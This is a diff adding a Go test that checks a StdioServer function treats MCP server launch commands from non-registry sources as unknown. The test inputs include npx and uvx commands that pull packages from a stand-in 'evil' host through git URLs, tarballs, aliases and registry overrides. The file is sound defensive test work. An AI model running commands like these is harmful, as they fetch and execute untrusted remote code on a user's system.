@@ -399,3 +399,22 @@ func TestStdioServerFailsClosed(t *testing.T) {
 		}
 	}
 }
+
+// TestStdioServerFromElsewhere: a package from another source than the
+// registry (a git URL, a github: spec, an npm: alias, a tarball URL, a
+// registry or index option, a local path) is not a known server.
+func TestStdioServerFromElsewhere(t *testing.T) {
+	for _, cmd := range []string{
+		"uvx git+https://evil/mcp-server-git",
+		"npx github:evil/github",
+		"npx @modelcontextprotocol/server-postgres@npm:evil-pkg",
+		"npx @modelcontextprotocol/server-postgres@https://evil/x.tgz",
+		"npx --@modelcontextprotocol:registry=https://evil @modelcontextprotocol/server-postgres",
+		"uvx --index=https://evil mcp-server-git",
+		"npx ./local-server",
+	} {
+		if got := StdioServer(cmd); got != "" {
+			t.Errorf("StdioServer(%q) = %q, want unknown", cmd, got)
+		}
+	}
+}
